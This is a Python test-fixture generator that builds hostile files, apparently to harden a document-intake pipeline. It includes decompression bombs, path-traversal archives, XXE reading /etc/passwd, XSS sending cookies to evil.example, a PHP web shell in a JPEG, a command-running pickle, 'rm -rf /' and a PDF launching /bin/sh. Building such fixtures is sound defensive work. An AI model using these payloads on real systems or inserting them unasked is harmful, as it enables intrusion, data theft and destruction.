"""Files meant to harm whoever opens them: bombs, loops, traversals, polyglots, damage.

Everything is built in memory from a few lines; nothing larger than some megabytes.
Each entry is (file name, bytes).
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import random
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

good = sys.modules["intake_build_good"]
File = tuple[str, bytes]


def all_files() -> Iterator[File]:
    """The whole set, the same every time."""
    yield from zip_bombs()
    yield from zip_lies()
    yield from xml_bombs()
    yield from office_bombs()
    yield from pdf_tricks()
    yield from picture_bombs()
    yield from mail_bombs()
    yield from page_attacks()
    yield from text_attacks()
    yield from chat_attacks()
    yield from polyglots()
    yield from streams()
    yield from further_bombs()
    yield from damaged()


def zip_bombs() -> Iterator[File]:
    """Much from little: one member, many members, members in members, overlapping members."""
    zeros = bytes(24 << 20)
    yield "flat.zip", good.zipped({"zeros.bin": zeros})
    yield "many.zip", good.zipped({f"{n}.txt": b"" for n in range(12_000)}, zipfile.ZIP_STORED)
    inner = good.zipped({"zeros.bin": bytes(8 << 20)})
    nested = inner
    for level in range(12):
        nested = good.zipped({f"{level}-{copy}.zip": nested for copy in range(2)})
    yield "nested.zip", nested
    deep = b"bottom"
    for level in range(40):
        deep = good.zipped({f"{level}.zip": deep}, zipfile.ZIP_STORED)
    yield "deep.zip", deep
    yield "overlap.zip", _overlapping(400, 1 << 20)
    yield "lzma.zip", good.zipped({"z": bytes(8 << 20)}, zipfile.ZIP_LZMA)
    yield "bzip2.zip", good.zipped({"z": bytes(8 << 20)}, zipfile.ZIP_BZIP2)
    yield "gzip.gz", gzip.compress(zeros, mtime=0)
    yield "twice.gz", gzip.compress(gzip.compress(zeros, mtime=0), mtime=0)


def _overlapping(count: int, size: int) -> bytes:
    """Many directory entries that point at one compressed body (after D. Fifield's idea)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = packer.compress(bytes(size)) + packer.flush()
    crc = zlib.crc32(bytes(size))
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 33, crc, len(body), size, 1, 0)
    out = local + b"a" + body
    start = len(out)
    for number in range(count):
        name = b"a" if number == 0 else f"{number:04d}".encode()
        out += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 33, crc, len(body), size,
            len(name), 0, 0, 0, 0, 0, 0,
        ) + name  # fmt: skip
    directory = len(out) - start
    return out + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, directory, start, 0)


def zip_lies() -> Iterator[File]:
    """Names that climb, links, wrong sizes, encryption flags, endless comments."""
    for number, name in enumerate(
        ("../../../../etc/passwd", "/etc/shadow", "C:\\Windows\\x.ini", "..\\..\\evil.txt", "a/../../b",
         "\x00hidden", "con", "a" * 400, "\u202etxt.exe", "<script>alert(1)</script>", "", ".", "..",
         "name\nwith\nlines", "-rf", "~/.ssh/authorized_keys", "日本語/../../../x", "a/" * 200 + "b")
    ):  # fmt: skip
        info = zipfile.ZipInfo("x")
        info.filename = name or "x"
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr(info, b"content")
        yield f"name-{number}.zip", out.getvalue()
    link = zipfile.ZipInfo("link")
    link.external_attr = 0o120777 << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(link, "/etc/passwd")
        archive.writestr("after.txt", "fine")
    yield "symlink.zip", out.getvalue()
    plain = good.zipped({"a.txt": b"words" * 100, "b.txt": b"more"})
    yield "encrypted.zip", _flagged(plain)
    yield "size-lie.zip", plain.replace(struct.pack("<I", 500), struct.pack("<I", 5), 2)
    yield "size-huge.zip", plain.replace(struct.pack("<I", 500), struct.pack("<I", 0xFFFFFFF0), 2)
    yield "comment.zip", plain[:-2] + struct.pack("<H", 65_535) + b"c" * 65_535
    yield "twins.zip", _twins()
    yield "no-directory.zip", plain[: plain.index(b"PK\x01\x02")]
    yield "only-end.zip", b"PK\x05\x06" + bytes(18)


def _flagged(plain: bytes) -> bytes:
    data = bytearray(plain)
    at = data.find(b"PK\x03\x04")
    while at >= 0:
        data[at + 6] |= 1
        at = data.find(b"PK\x03\x04", at + 4)
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def _twins() -> bytes:
    import warnings

    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(out, "w") as archive:
            for text in ("one", "two", "three"):
                archive.writestr("same.txt", text)
    return out.getvalue()


_LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>{}]>".format(
    "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
)
_OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


def xml_bombs() -> Iterator[File]:
    """Entities that multiply or reach outside, endless depth, as XML, SVG and HTML."""
    yield "laughs.xml", f"<?xml version='1.0'?>{_LAUGHS}<x>&a9;</x>".encode()
    yield "laughs.html", f"{_LAUGHS}<html><body>&a9;</body></html>".encode()
    yield "laughs.svg", f"{_LAUGHS}<svg xmlns='http://www.w3.org/2000/svg'>&a9;</svg>".encode()
    yield "outside.xml", f"<?xml version='1.0'?>{_OUTSIDE}<x>&e;</x>".encode()
    yield "outside.html", f"{_OUTSIDE}<html><body>&e;</body></html>".encode()
    yield "deep.xml", b"<?xml version='1.0'?>" + b"<a>" * 100_000
    yield "deep.html", b"<html><body>" + b"<div>" * 100_000 + b"bottom"
    yield "deep-closed.html", b"<html><body>" + b"<b>" * 50_000 + b"x" + b"</b>" * 50_000
    yield "wide.html", b"<html><body>" + b"<p>x</p>" * 60_000
    yield (
        "attributes.html",
        b"<html><body><p " + b" ".join(b"a%d=1" % n for n in range(50_000)) + b">x",
    )


def office_bombs() -> Iterator[File]:
    """Word files with entity bombs, deep tables, missing stories, macros, huge members."""
    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    types = {"[Content_Types].xml": "<Types/>"}
    yield (
        "laughs.docx",
        good.zipped(types | {"word/document.xml": f"{_LAUGHS}<w:document {w}>&a9;</w:document>"}),
    )
    yield (
        "outside.docx",
        good.zipped(types | {"word/document.xml": f"{_OUTSIDE}<w:document {w}>&e;</w:document>"}),
    )
    yield (
        "deep.docx",
        good.zipped(
            types
            | {
                "word/document.xml": f"<w:document {w}>"
                + "<w:p>" * 50_000
                + "<w:r><w:t>x</w:t></w:r>"
            }
        ),
    )
    yield "bomb.docx", good.zipped(types | {"word/document.xml": bytes(12 << 20)})
    yield (
        "spaces.docx",
        good.zipped(
            types
            | {
                "word/document.xml": f"<w:document {w}>"
                + "<w:p><w:r><w:t> </w:t></w:r></w:p>" * 300_000
            }
        ),
    )
    yield "nothing.docx", good.zipped(types)
    yield (
        "macros.docx",
        good.zipped(
            types | {"word/document.xml": f"<w:document {w}/>", "word/vbaProject.bin": b"\x01"}
        ),
    )
    yield "template.docx", good.zipped(
        types | {"word/document.xml": f"<w:document {w}/>",
                 "word/_rels/settings.xml.rels": '<R><Relationship Target="http://evil.example/t.dotm"/></R>'}
    )  # fmt: skip
    yield (
        "media-bomb.docx",
        good.zipped(
            types | {"word/document.xml": f"<w:document {w}/>", "word/media/i.bin": bytes(12 << 20)}
        ),
    )


def pdf_tricks() -> Iterator[File]:
    """Loops in the page tree, bombs in streams, scripts, wrong tables, absurd numbers."""
    catalog = "<< /Type /Catalog /Pages 2 0 R >>"
    page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
    pages = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"

    def stream(raw: bytes, extra: str = "") -> str:
        return f"<< /Length {len(raw)} {extra}>>\nstream\n{raw.decode('latin-1')}\nendstream"

    flate = "/Filter /FlateDecode "
    yield (
        "loop.pdf",
        good.assemble_pdf([catalog, "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"]),
    )
    yield (
        "self-parent.pdf",
        good.assemble_pdf(
            [catalog, pages, page.replace("/Parent 2 0 R", "/Parent 3 0 R"), stream(b"")]
        ),
    )
    yield (
        "count.pdf",
        good.assemble_pdf(
            [catalog, "<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>", page, stream(b"")]
        ),
    )
    yield (
        "negative.pdf",
        good.assemble_pdf(
            [catalog, "<< /Type /Pages /Kids [3 0 R] /Count -5 >>", page, stream(b"")]
        ),
    )
    yield (
        "flate.pdf",
        good.assemble_pdf(
            [catalog, pages, page, stream(zlib.compress(b"BT (x) Tj ET " * 4_000_000, 9), flate)]
        ),
    )
    twice = zlib.compress(zlib.compress(bytes(128 << 20), 9), 9)
    yield (
        "flate-twice.pdf",
        good.assemble_pdf(
            [catalog, pages, page, stream(twice, "/Filter [/FlateDecode /FlateDecode] ")]
        ),
    )
    yield (
        "hex-filters.pdf",
        good.assemble_pdf(
            [
                catalog,
                pages,
                page,
                stream(b"41" * 1000, "/Filter [" + "/ASCIIHexDecode " * 200 + "] "),
            ]
        ),
    )
    yield (
        "huge-box.pdf",
        good.assemble_pdf(
            [
                catalog,
                pages,
                page.replace("595 842", "1e9 1e9"),
                stream(b"0 0 1000000 1000000 re f"),
            ]
        ),
    )
    yield (
        "nan-box.pdf",
        good.assemble_pdf(
            [catalog, pages, page.replace("595 842", "-1 nan"), stream(b"0 0 9 9 re f")]
        ),
    )
    yield (
        "script.pdf",
        good.assemble_pdf(
            [
                "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>",
                pages,
                page,
                stream(b""),
            ]
        ),
    )
    yield (
        "launch.pdf",
        good.assemble_pdf(
            [
                "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (/bin/sh) >> >>",
                pages,
                page,
                stream(b""),
            ]
        ),
    )
    form = "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /A 4 0 R >> >> "
    yield (
        "form-loop.pdf",
        good.assemble_pdf(
            [
                catalog,
                pages,
                page.replace("/Contents", "/Resources << /XObject << /A 4 0 R >> >> /Contents"),
                stream(b"/A Do " * 1000, form),
            ]
        ),
    )
    yield "deep-array.pdf", good.assemble_pdf([catalog, pages, page, "[" * 100_000 + "]" * 100_000])
    yield "object-loop.pdf", good.assemble_pdf([catalog, "3 0 R", "2 0 R"])
    yield (
        "encrypted.pdf",
        good.assemble_pdf(
            [
                catalog,
                pages,
                page,
                stream(b"x"),
                f"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <{'41' * 32}> /U <{'42' * 32}> >>",
            ],
            "/Encrypt 5 0 R /ID [<00><00>] ",
        ),
    )
    yield "header-only.pdf", b"%PDF-1.7\n"
    yield "no-xref.pdf", good.pdf().split(b"xref\n0")[0]
    yield "bad-xref.pdf", good.pdf().replace(b"00000 n", b"99999 n")
    yield "garbage-after.pdf", good.pdf() + random.Random(4).randbytes(50_000)
    yield "pages-600.pdf", good.pdf(["x"] * 600)
    many = " ".join("(x) Tj" for _ in range(300_000))
    yield (
        "many-runs.pdf",
        good.assemble_pdf([catalog, pages, page, stream(f"BT {many} ET".encode())]),
    )


def picture_bombs() -> Iterator[File]:
    """Pictures that claim or unfold to more pixels than any camera makes."""
    yield "wide.png", _png(100_000, 100_000, b"")
    yield "wide-real.png", _png(20_000, 20_000, zlib.compress(bytes(20_001 * 2_000), 9))
    yield "max.png", _png(0x7FFFFFFF, 0x7FFFFFFF, b"")
    yield "zero.png", _png(0, 0, b"")
    yield "under-limit.png", _png(8_000, 8_000, zlib.compress(bytes(8_001 * 8_000), 9))
    bomb = struct.pack(">I", 12) + b"zTXtk\x00\x00" + b"xxxxxxxxx"
    del bomb
    yield (
        "text-bomb.png",
        _png(
            4,
            4,
            zlib.compress(bytes(20)),
            _chunk(b"zTXt", b"k\x00\x00" + zlib.compress(bytes(70 << 20), 9)),
        ),
    )
    yield (
        "icc-bomb.png",
        _png(
            4,
            4,
            zlib.compress(bytes(20)),
            _chunk(b"iCCP", b"k\x00\x00" + zlib.compress(bytes(70 << 20), 9)),
        ),
    )
    yield "chunk-size.png", good.png()[:33] + b"\xff\xff\xff\xff" + good.png()[37:]
    yield (
        "wide.gif",
        b"GIF89a\xff\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00\xff\xff\xff\xff\x00\x02\x00;",
    )
    yield (
        "frames.gif",
        b"GIF89a\x10\x00\x10\x00\x00\x00\x00"
        + b",\x00\x00\x00\x00\x10\x00\x10\x00\x00\x02\x02\x84Q\x00" * 20_000
        + b";",
    )
    yield (
        "wide.bmp",
        b"BM"
        + struct.pack(
            "<IHHIIiiHHIIiiII", 54, 0, 0, 54, 40, 90_000, 90_000, 1, 24, 0, 0, 0, 0, 0, 0
        ),
    )
    yield (
        "negative.bmp",
        b"BM" + struct.pack("<IHHIIiiHHIIiiII", 54, 0, 0, 54, 40, -9, -9, 1, 24, 0, 0, 0, 0, 0, 0),
    )
    yield (
        "loop.tif",
        b"II*\x00\x08\x00\x00\x00"
        + struct.pack("<H", 1)
        + struct.pack("<HHII", 256, 3, 1, 9)
        + struct.pack("<I", 8),
    )
    yield (
        "wide.jpg",
        b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
        + b"\xff\xd9",
    )
    photo = good.jpeg_with_position()
    yield (
        "exif-lies.jpg",
        photo.replace(b"\x88\x25", b"\x88\x25", 1).replace(
            b"Inventa", b"\xff\xff\xff\xff\xff\xff\xff"
        ),
    )
    yield (
        "exif-loop.jpg",
        _jpeg_with_exif(
            b"Exif\x00\x00II*\x00\x08\x00\x00\x00"
            + struct.pack("<HHHII", 1, 0x8769, 4, 1, 8)
            + bytes(4)
        ),
    )
    yield (
        "exif-xss.jpg",
        _jpeg_with_exif(
            b"Exif\x00\x00II*\x00\x08\x00\x00\x00"
            + struct.pack("<HHHII", 1, 0x010F, 2, 30, 26)
            + bytes(4)
            + b"<script>alert(1)</script>\x00"
            + bytes(9)
        ),
    )
    yield (
        "webp.webp",
        b"RIFF\x20\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00\x00\x00\x00\x00\xff\xff\xff\xff\xff\xff",
    )


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, data: bytes, extra: bytes = b"") -> bytes:
    header = struct.pack(">IIBBBBB", width & 0x7FFFFFFF, height & 0x7FFFFFFF, 8, 0, 0, 0, 0)
    chunks = _chunk(b"IHDR", header) + extra + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks


def _jpeg_with_exif(exif: bytes) -> bytes:
    plain = good.jpeg_with_position()
    size = struct.pack(">H", len(exif) + 2)
    return b"\xff\xd8\xff\xe1" + size + exif + plain[2:]


def mail_bombs() -> Iterator[File]:
    """Mails with ten thousand parts, endless nesting, headers as long as books."""
    head = b"From: a@b.example\nTo: c@d.example\nSubject: s\nMIME-Version: 1.0\n"
    multi = head + b'Content-Type: multipart/mixed; boundary="B"\n\n'
    part = b"--B\nContent-Type: text/plain\nContent-Disposition: attachment; filename=a.txt\n\nx\n"
    yield "parts.eml", multi + part * 10_000 + b"--B--\n"
    yield "parts-30000.eml", multi + part * 30_000 + b"--B--\n"
    deep = head
    for level in range(500):
        deep += b'Content-Type: multipart/mixed; boundary="B%d"\n\n--B%d\n' % (level, level)
    yield "deep.eml", deep + b"Content-Type: text/plain\n\nbottom\n"
    forwarded = b"the bottom"
    for _ in range(60):
        forwarded = head + b"Content-Type: message/rfc822\n\n" + forwarded
    yield "forwarded.eml", forwarded
    yield (
        "same-boundary.eml",
        multi + (b'--B\nContent-Type: multipart/mixed; boundary="B"\n\n' * 300),
    )
    yield "long-header.eml", head + b"X-Long: " + b"a" * 5_000_000 + b"\n\nbody"
    yield "many-headers.eml", head + b"".join(b"X-%d: y\n" % n for n in range(50_000)) + b"\nbody"
    yield (
        "addresses.eml",
        b"From: a@b.example\nSubject: s\nDate: x\nTo: " + b"a@b.example, " * 20_000 + b"\n\nbody",
    )
    yield (
        "nested-comments.eml",
        b"From: " + b"(" * 50_000 + b"\nTo: c@d.example\nSubject: s\n\nbody",
    )
    yield (
        "encoded-words.eml",
        b"From: a@b.example\nTo: c@d.example\nSubject: " + b"=?utf-8?b?" * 5_000 + b"\n\nbody",
    )
    yield "bad-charset.eml", head + b'Content-Type: text/plain; charset="../../x"\n\n\xff\xfe body'
    yield "codec.eml", head + b'Content-Type: text/plain; charset="zlib_codec"\n\nx\x9c bomb'
    yield (
        "bad-base64.eml",
        multi
        + b"--B\nContent-Disposition: attachment; filename=x\nContent-Transfer-Encoding: base64\n\n!!!!\n--B--",
    )
    yield (
        "uuencode.eml",
        head + b"Content-Transfer-Encoding: x-uuencode\n\nbegin 666 ../../x\n!!!!\nend\n",
    )
    yield "traversal.eml", multi + part.replace(b"a.txt", b'"../../../root/.bashrc"') + b"--B--"
    yield (
        "xss.eml",
        head.replace(b"Subject: s", b"Subject: <script>alert(1)</script>")
        + b"Content-Type: text/html\n\n<img src=x onerror=alert(1)>",
    )
    yield "nul.eml", head + b"\n\x00\x00\x00body\x00"
    yield "no-end.eml", multi + b"--B\nContent-Type: multipart/mixed"


def page_attacks() -> Iterator[File]:
    """Pages that attack the viewer: scripts in every field, refreshes, forms, data addresses."""
    script = "<script>fetch('http://evil.example/'+document.cookie)</script>"
    for number, inner in enumerate(
        (script, "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<iframe src=file:///etc/passwd>",
         "<meta http-equiv=refresh content='0;url=http://evil.example'>", "<a href='javascript:alert(1)'>x</a>",
         "<object data=http://evil.example/x.swf>", "<link rel=import href=http://evil.example>",
         "<base href=http://evil.example><form action=/x><input name=p>", "<style>@import 'http://evil.example'</style>",
         "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
         "<template><script>alert(1)</script></template>", "<!--><script>alert(1)</script>-->",
         "<img src='data:image/png;base64,!!!!'>", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
         "<title><script>alert(1)</script></title>", "<meta name=author content='\"><script>alert(1)</script>'>",
         "&#x202e;evil&#0;&#1;&#xd800;&#x110000;", "<p>" + "A" * 3_000_000)
    ):  # fmt: skip
        yield (
            f"attack-{number}.html",
            f"<html><body><p>before</p>{inner}<p>after</p></body></html>".encode(),
        )
    yield "charset-utf7.html", b"<html><meta charset=utf-7><body>+ADw-script+AD4-alert(1)"
    yield "charset-odd.html", b"<html><meta charset=rot13><body>uryyb"
    pictures = "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw='>" * 15_000
    yield "pictures.html", f"<html><body>{pictures}</body></html>".encode()


def text_attacks() -> Iterator[File]:
    """Texts of one line, of control characters, of combining marks, of broken UTF."""
    yield "one-line.txt", b"a" * 8_000_000
    yield "newlines.txt", b"\n" * 300_000
    yield "spaces.txt", b" " * 3_000_000
    yield "escapes.txt", b"\x1b]0;title\x07\x1b[2J\x1b[31mred\x1b[0m words that stay" * 50
    yield "bidi.txt", "safe \u202e evil \u2066 words".encode() * 100
    yield "combining.txt", ("e" + "\u0301" * 200_000).encode()
    yield "surrogates.txt", b"words \xed\xa0\x80\xed\xb0\x80 and more words"
    yield "overlong.txt", b"words \xc0\xaf\xc0\xaf and more"
    yield "utf16-odd.txt", b"\xff\xfe" + "words".encode("utf-16-le") + b"x"
    yield "utf16-lone.txt", b"\xff\xfe" + b"\x00\xd8" * 5_000
    yield "utf32.txt", b"\xff\xfe\x00\x00" + b"\xff\xff\xff\xff" * 100
    yield "stamps.txt", b"1 days ago\n" * 100_000
    yield "stamp-blank.txt", b" " * 80 + b"1 days ago\n" + b"a b " * 20_000
    yield "nul.txt", b"\x00" * 100_000
    yield "empty.txt", b""
    yield "one.txt", b"\xff"
    yield "random.bin", random.Random(1).randbytes(300_000)
    yield "random.txt", random.Random(2).randbytes(3_000)


def chat_attacks() -> Iterator[File]:
    """Exports with a quarter of a million messages, endless names, wrong JSON."""
    yield "chat-many.txt", b"03/03/2017, 02:11 - V: x\n" * 20_000
    yield (
        "chat-name.txt",
        b"03/03/2017, 02:11 - " + b"V" * 500_000 + b": x\n03/03/2017, 02:11 - V: y\n",
    )
    yield "chat-long.txt", b"03/03/2017, 02:11 - V: x\n03/03/2017, 02:11 - V: " + b"y\n" * 500_000
    yield "chat-senders.txt", b"".join(b"03/03/2017, 02:11 - V%d: x\n" % n for n in range(20_000))
    start = b'{"name": "x", "messages": [{"date_unixtime": "1", '
    yield "deep.json", start + b'"text": ' + b"[" * 100_000
    yield (
        "types.json",
        start + b'"text": {"a": 1}, "from": [1], "members": 7, "date": null}, 5, null, "x"]}',
    )
    yield (
        "numbers.json",
        b'{"messages": [{"date_unixtime": "'
        + b"9" * 5_000
        + b'", "date": '
        + b"9" * 5_000
        + b"}]}",
    )
    yield "cut.json", good.telegram()[:-20]
    yield "xss.json", good.telegram().replace(b"Vera", b"<script>alert(1)</script>")


def polyglots() -> Iterator[File]:
    """Files that are two things at once, and files whose name lies."""
    plain = good.zipped({"a.txt": b"inside"})
    yield "pdf-zip.pdf", good.pdf() + plain
    yield "jpg-zip.jpg", good.jpeg_with_position() + plain
    yield "png-html.png", good.png() + b"<html><script>alert(1)</script>"
    yield "gif-js.gif", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)"
    yield "html-pdf.html", b"<html><!-- %PDF-1.4 --><body>words</body></html>"
    yield "exe.pdf", b"MZ\x90\x00" + bytes(400) + b"PE\x00\x00"
    yield "elf.jpg", b"\x7fELF\x02\x01\x01" + bytes(200)
    yield "script.txt", b"#!/bin/sh\nrm -rf /\n"
    yield "php.jpg", b"\xff\xd8\xff\xe0<?php system($_GET['c']); ?>"
    yield "docx.zip", good.docx()
    yield "html.docx", good.page("en")
    yield (
        "eicar.com",
        b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
    )
    yield "pickle.pkl", b"\x80\x04\x95\x1d\x00\x00\x00cposix\nsystem\n(S'touch /tmp/pwned'\ntR."
    yield "a" * 300 + ".txt", b"long name"
    yield "../../../../tmp/x.txt", b"name with a path"
    yield "nul\x00.txt", b"nul in the name"


def streams() -> Iterator[File]:
    """Tar files with links, devices and climbing names."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, kind, link in (
            ("../../evil", tarfile.REGTYPE, ""), ("/abs", tarfile.REGTYPE, ""), ("link", tarfile.SYMTYPE, "/etc/passwd"),
            ("hard", tarfile.LNKTYPE, "../../evil"), ("fifo", tarfile.FIFOTYPE, ""), ("device", tarfile.CHRTYPE, ""),
        ):  # fmt: skip
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, link
            archive.addfile(info, io.BytesIO(b""))
    yield "links.tar", out.getvalue()
    yield "links.tar.gz", gzip.compress(out.getvalue(), mtime=0)
    huge = tarfile.TarInfo("huge")
    huge.size = 1 << 40
    yield "huge-claim.tar", huge.tobuf() + bytes(1024)
    yield "sparse.tar", _sparse()


def _sparse() -> bytes:
    info = tarfile.TarInfo("sparse")
    info.pax_headers = {
        "GNU.sparse.major": "1",
        "GNU.sparse.minor": "0",
        "GNU.sparse.name": "s",
        "GNU.sparse.realsize": str(1 << 50),
    }
    return info.tobuf(tarfile.PAX_FORMAT) + bytes(2048)


def further_bombs() -> Iterator[File]:
    """Bombs and lies in the remaining kinds."""
    types = {"[Content_Types].xml": "<Types/>"}
    yield "bomb.xlsx", good.zipped(types | {"xl/workbook.xml": bytes(12 << 20)})
    yield (
        "laughs.xlsx",
        good.zipped(types | {"xl/workbook.xml": f"{_LAUGHS}<workbook>&a9;</workbook>"}),
    )
    far = '<sheetData><row r="1048576"><c r="XFD1048576" t="str"><v>far</v></c></row></sheetData>'
    yield "far-cell.xlsx", _workbook(f"<worksheet>{far}</worksheet>")
    both = far.replace("<row", '<row r="1"><c r="A1" t="str"><v>near</v></c></row><row', 1)
    yield "near-and-far.xlsx", _workbook(f"<worksheet>{both}</worksheet>")
    yield "bomb.pptx", good.zipped(types | {"ppt/slides/slide1.xml": bytes(12 << 20)})
    yield "laughs.odt", good.odf("text", "</office:body>").replace(b"x", b"x")
    yield "deep.odt", good.odf("text", "<office:text>" + "<text:p>" * 5_000)
    yield "deep.rtf", b"{\\rtf1 " + b"{" * 200_000 + b"x"
    yield "names.rtf", b"{\\rtf1 " + b"\\" + b"a" * 500_000 + b" x}"
    yield "picture.rtf", b"{\\rtf1 {\\pict " + b"41" * 2_000_000 + b"}}"
    yield "mails.mbox", b"From a Tue Mar 7 2017\nSubject: x\n\nx\n\n" * 30_000
    yield "nested.mbox", b"From a Tue\nFrom: a\n\n" + b"From b\n" * 100_000
    yield "cues.srt", b"1\n00:00:01,000 --> 00:00:02,000\nx\n\n" * 30_000
    yield "field.csv", b'a;b\n"' + b"x" * 5_000_000
    yield (
        "bomb.warc.gz",
        gzip.compress(
            b"WARC/1.0\r\nWARC-Type: resource\r\nContent-Length: 67108864\r\n\r\n"
            + bytes(64 << 20),
            mtime=0,
        ),
    )
    yield "length.warc", b"WARC/1.0\r\nWARC-Type: resource\r\nContent-Length: -5\r\n\r\nx"
    yield (
        "huge.warc",
        b"WARC/1.0\r\nWARC-Type: response\r\nContent-Length: 99999999999999\r\n\r\nHTTP/1.1 200 OK\r\n\r\nx",
    )
    yield "bomb.7z", _sevenzip_bomb()
    yield "header.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\xff" * 24
    yield "zeros.xz", lzma.compress(bytes(8 << 20))
    yield "zeros.bz2", bz2.compress(bytes(8 << 20))
    yield "loop.doc", good.compound({"WordDocument": b"\xff" * 5_000, "1Table": b"\x01" * 9_000})
    yield "fat-loop.msg", _fat_loop()
    yield "boxes.mp4", b"\x00\x00\x00\x18ftypmp42" + b"\x00\x00\x00\x08moov" * 100_000
    yield "size.mp4", b"\x00\x00\x00\x18ftypmp42" + bytes(12) + b"\xff\xff\xff\xffmoov" + bytes(500)
    yield "rate.wav", good.wav()[:24] + b"\xff\xff\xff\xff" + good.wav()[28:]
    yield "font.ttf", b"\x00\x01\x00\x00\xff\xff" + bytes(500)
    yield (
        "paths.wacz",
        good.zipped(
            {
                "datapackage.json": '{"resources": [{"path": "../../etc/passwd", "hash": "sha256:00"}]}',
                "archive/x": b"",
            }
        ),
    )
    yield "deep.wacz", good.zipped({"datapackage.json": "[" * 100_000, "archive/x": b""})
    yield (
        "facts.proof.zip",
        good.zipped({"a.proof.json": "[" * 100_000, "b.proof.csv": b"\x00,\xff\n" * 1000}),
    )


def _workbook(sheet: str) -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rels = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    return bytes(
        good.zipped(
            {
                "[Content_Types].xml": "<Types/>",
                "_rels/.rels": f'<Relationships xmlns="{package}"><Relationship Id="r1" Type="{rels}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
                "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{rels}"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>',
                "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}"><Relationship Id="r1" Type="{rels}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
                "xl/worksheets/sheet1.xml": sheet.replace(
                    "<worksheet>", f'<worksheet xmlns="{main}">'
                ),
            }
        )
    )


def _sevenzip_bomb() -> bytes:
    import py7zr

    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w") as archive:
        archive.writestr(bytes(8 << 20), "zeros.bin")
    return out.getvalue()


def _fat_loop() -> bytes:
    data = bytearray(good.msg())
    table = len(data) - 512
    for at in range(table, len(data), 4):
        data[at : at + 4] = struct.pack("<i", 1)
    return bytes(data)


def damaged() -> Iterator[File]:
    """Each good file cut short and with bits flipped, by a fixed seed."""
    dice = random.Random(7)
    for number, (name, data) in enumerate(good_files()):
        stem, _, suffix = name.rpartition(".")
        copies = 3 if number < 10 else 2
        for share in (0.5, 0.9, 0.1)[:copies]:
            yield f"{stem}-cut{int(share * 100)}.{suffix}", data[: int(len(data) * share)]
        for copy in range(copies):
            broken = bytearray(data)
            for _ in range(max(1, len(data) // 300)):
                broken[dice.randrange(len(data))] ^= 1 << dice.randrange(8)
            yield f"{stem}-flip{copy}.{suffix}", bytes(broken)


def good_files() -> Iterator[File]:
    """One sound file of every kind."""
    yield "page.html", good.page("en")
    yield "paper.pdf", good.pdf()
    yield "word.docx", good.docx()
    yield "mail.eml", good.mail("fr")
    yield "photo.jpg", good.jpeg_with_position()
    yield "picture.png", good.png()
    yield "result.json", good.telegram()
    yield "chat.txt", good.WHATSAPP["android-en"].encode()
    yield "several.zip", good.zipped({"a.txt": b"one", "b/c.txt": b"two"})
    yield "russian.txt", good.TEXTS["ru"].encode("cp1251")
    for name, data in good.MORE.items():
        yield name, data()
